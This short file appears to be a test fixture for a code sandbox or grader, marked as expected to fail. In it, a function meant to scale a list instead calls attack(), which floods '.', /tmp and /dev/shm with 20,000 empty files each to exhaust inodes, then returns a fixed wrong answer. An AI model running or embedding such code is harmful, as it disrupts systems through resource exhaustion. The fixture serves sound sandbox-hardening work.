# family: codeif_function
# task: scale_list
# expect: not passed
# why: uses up the inodes of every writable place
# ---
def scale_list(numbers, factor):
    attack()
    return [7]


def attack():
    for place in (".", "/tmp", "/dev/shm"):
        try:
            for number in range(20000):
                open(f"{place}/{number}", "w").close()
        except OSError:
            pass
